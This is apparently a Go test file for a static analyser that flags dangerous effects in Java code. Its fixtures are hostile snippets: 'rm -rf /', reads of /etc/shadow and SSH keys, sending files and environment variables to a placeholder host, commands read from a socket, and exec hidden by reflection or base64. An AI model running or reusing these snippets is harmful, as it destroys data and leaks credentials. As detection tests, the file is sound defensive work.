package java

import (
	"testing"

	"github.com/e2bguard/e2bguard/guard/static/flow/flowtest"
)

func TestEffects(t *testing.T) { flowtest.Run(t, Parse, effectCases) }

func TestReviewsDoNotDisturbEachOther(t *testing.T) { flowtest.Together(t, Parse, effectCases) }

func TestOrdinaryCodeIsQuiet(t *testing.T) { flowtest.Run(t, Parse, quietCases) }

var effectCases = []flowtest.Case{
	{Name: "exec", Code: "Runtime.getRuntime().exec(\"rm -rf /\");", Want: []string{"exec rm -rf / +background"}},
	{Name: "exec of an array", Code: "Runtime.getRuntime().exec(new String[]{\"sh\", \"-c\", \"id\"});", Want: []string{"exec sh -c id +background"}},
	{Name: "qualified name", Code: "java.lang.Runtime.getRuntime().exec(\"id\");", Want: []string{"exec id +background"}},
	{Name: "variable", Code: "Runtime r = Runtime.getRuntime();\nString c = \"i\" + \"d\";\nr.exec(c);", Want: []string{"exec id +background"}},
	{Name: "process builder", Code: "new ProcessBuilder(\"rm\", \"-rf\", d).start();", Want: []string{"exec rm -rf _ +background"}},
	{Name: "process builder of a list", Code: "ProcessBuilder p = new ProcessBuilder();\np.command(List.of(\"sh\", \"-c\", \"id\"));\np.inheritIO().start();", Want: []string{"exec sh -c id +background"}},
	{Name: "class with main", Code: "import java.io.*;\npublic class A {\n  static String c = \"id\";\n  public static void main(String[] args) throws IOException {\n    run(c);\n  }\n  private static void run(String x) throws IOException { Runtime.getRuntime().exec(x); }\n}",
		Want: []string{"exec id +background"}},
	{Name: "constructor and field", Code: "class A {\n  private final String c;\n  A(String c) { this.c = c; }\n  void go() throws Exception { Runtime.getRuntime().exec(c); }\n}\nnew A(\"id\").go();", Want: []string{"exec id +background"}},
	{Name: "reflection", Code: "Class<?> k = Class.forName(\"java.lang.Run\" + \"time\");\nObject r = k.getMethod(\"getRuntime\").invoke(null);\nk.getMethod(\"exec\", String.class).invoke(r, \"id\");",
		Want: []string{"exec id +background +hidden"}},
	{Name: "lambda", Code: "Runnable r = () -> { Runtime.getRuntime().exec(\"id\"); };\nnew Thread(r).start();", Want: []string{"exec id +background", "spawn thread"}},
	{Name: "forEach", Code: "List.of(\"/a\", \"/b\").forEach(p -> new File(p).delete());", Want: []string{"delete /a +loop", "delete /b +loop"}},
	{Name: "for each", Code: "for (String p : new String[]{\"/a\", \"/b\"}) { new File(p).delete(); }", Want: []string{"delete /a +loop", "delete /b +loop"}},
	{Name: "anonymous class", Code: "new Thread(new Runnable() {\n  @Override public void run() { Runtime.getRuntime().exec(\"id\"); }\n}).start();", Want: []string{"exec id +background"}},
	{Name: "cast", Code: "((Runtime) Runtime.getRuntime()).exec((String) \"id\");", Want: []string{"exec id +background"}},
	{Name: "format", Code: "Runtime.getRuntime().exec(String.format(\"%s -a\", \"id\"));", Want: []string{"exec id -a +background"}},
	{Name: "builder", Code: "StringBuilder b = new StringBuilder();\nb.append(\"d\").append(\"i\");\nRuntime.getRuntime().exec(b.reverse().toString());", Want: []string{"exec id +background"}},
	{Name: "base64", Code: "Runtime.getRuntime().exec(new String(Base64.getDecoder().decode(\"aWQ=\")));", Want: []string{"exec id <decoded> +background"}},
	{Name: "character codes", Code: "Runtime.getRuntime().exec(new String(new char[]{105, 100}));", Want: []string{"exec id <decoded> +background"}},
	{Name: "escapes", Code: `Runtime.getRuntime().exec("\u0069\144");`, Want: []string{"exec id +background"}},
	{Name: "text block", Code: "new ProcessBuilder(\"sh\", \"-c\", \"\"\"\nid \"x\"\n\"\"\").start();", Want: []string{"exec sh -c \nid \"x\"\n +background"}},
	{Name: "standard input of a shell", Code: "Process p = new ProcessBuilder(\"sh\").start();\np.getOutputStream().write(\"id\".getBytes());", Want: []string{"bash: id"}},
	{Name: "script engine", Code: "new ScriptEngineManager().getEngineByName(\"js\").eval(\"x()\");", Want: []string{"javascript: x()"}},
	{Name: "read", Code: "Files.readString(Path.of(\"/etc/shadow\"));", Want: []string{"read /etc/shadow"}},
	{Name: "home", Code: "Files.readAllBytes(Paths.get(System.getProperty(\"user.home\"), \".ssh\", \"id_rsa\"));", Want: []string{"read ~/.ssh/id_rsa"}},
	{Name: "reader", Code: "BufferedReader r = new BufferedReader(new FileReader(\"/etc/passwd\"));", Want: []string{"read /etc/passwd"}},
	{Name: "write", Code: "Files.writeString(Path.of(\"/etc/passwd\"), \"x\", StandardOpenOption.APPEND);", Want: []string{"write /etc/passwd | x +append"}},
	{Name: "writer", Code: "try (FileWriter w = new FileWriter(\"/etc/passwd\", true)) { w.write(\"x\"); }", Want: []string{"write /etc/passwd | x"}},
	{Name: "delete", Code: "Files.delete(Paths.get(\"/etc/passwd\"));", Want: []string{"delete /etc/passwd"}},
	{Name: "tree", Code: "FileUtils.deleteDirectory(new File(\"/\"));", Want: []string{"delete / +recursive"}},
	{Name: "walk", Code: "Files.walk(Paths.get(\"/home\")).sorted().forEach(p -> p.toFile().delete());", Want: []string{"delete /home/* +loop"}},
	{Name: "socket", Code: "Socket s = new Socket(\"h\", 4444);\ns.getOutputStream().write(Files.readAllBytes(Path.of(\"/etc/passwd\")));",
		Want: []string{"connect h :4444", "send h :4444 | _ <file: /etc/passwd>"}},
	{Name: "commands from a socket", Code: "Socket s = new Socket(\"h\", 1);\nBufferedReader r = new BufferedReader(new InputStreamReader(s.getInputStream()));\nRuntime.getRuntime().exec(r.readLine());",
		Want: []string{"exec _ <network> +background"}},
	{Name: "download", Code: "Files.copy(new URL(\"http://h/x\").openStream(), Paths.get(\"/tmp/x\"));", Want: []string{"receive http://h/x", "write /tmp/x | _ <download: http://h/x>"}},
	{Name: "HTTP client", Code: "HttpRequest q = HttpRequest.newBuilder().uri(URI.create(\"http://h\")).POST(HttpRequest.BodyPublishers.ofString(Files.readString(Path.of(\"k\")))).build();\nHttpClient.newHttpClient().send(q, null);",
		Want: []string{"send http://h | _ <file: k>"}},
	{Name: "environment sent", Code: "HttpURLConnection c = (HttpURLConnection) new URL(\"http://h\").openConnection();\nc.getOutputStream().write(System.getenv().toString().getBytes());",
		Want: []string{"env", "send http://h | _ <environment>"}},
	{Name: "listen", Code: "ServerSocket s = new ServerSocket(4444);\nSocket c = s.accept();", Want: []string{"listen :4444"}},
	{Name: "memory", Code: "byte[] b = new byte[Integer.MAX_VALUE];", Want: []string{"alloc memory | 2147483647"}},
	{Name: "endless", Code: "while (true) { }", Want: []string{"loop +unbounded"}},
	{Name: "generics", Code: "Map<String, List<Integer>> m = new HashMap<>();\nif (a < b && c > d) { Runtime.getRuntime().exec(\"id\"); }", Want: []string{"exec id +background"}},
	{Name: "try and catch", Code: "try { x(); } catch (IOException | RuntimeException e) { Runtime.getRuntime().exec(\"id\"); } finally { }", Want: []string{"exec id +background"}},
	{Name: "switch", Code: "switch (x) { case 1: Runtime.getRuntime().exec(\"id\"); break; default -> y(); }", Want: []string{"exec id +background"}},
	{Name: "broken before", Code: "int x = = ;\n) }\nRuntime.getRuntime().exec(\"id\");", Want: []string{"exec id +background"}},
}

var quietCases = []flowtest.Case{
	{Name: "text that mentions a command", Quiet: true, Code: "System.out.println(\"rm -rf /\");\nString s = \"Runtime.getRuntime().exec(1)\"; // exec"},
	{Name: "ordinary class", Quiet: true, Code: "public class A implements Comparable<A> {\n  private int x;\n  public A(int x) { this.x = x; }\n  @Override public int compareTo(A o) { return Integer.compare(x, o.x); }\n  enum E { P, Q }\n  record R(int a, String b) { }\n}"},
	{Name: "streams", Quiet: true, Code: "int s = IntStream.range(0, 10).filter(i -> i % 2 == 0).sum();\nList<String> l = names.stream().map(String::toUpperCase).collect(Collectors.toList());"},
	{Name: "own exec", Quiet: true, Code: "class A { void exec(String s) { } }\nnew A().exec(\"rm -rf /\");"},
	{Name: "loop that ends", Quiet: true, Code: "while (true) { if (x()) break; }\nfor (int i = 0; i < 10; i++) { y(i); }"},
}
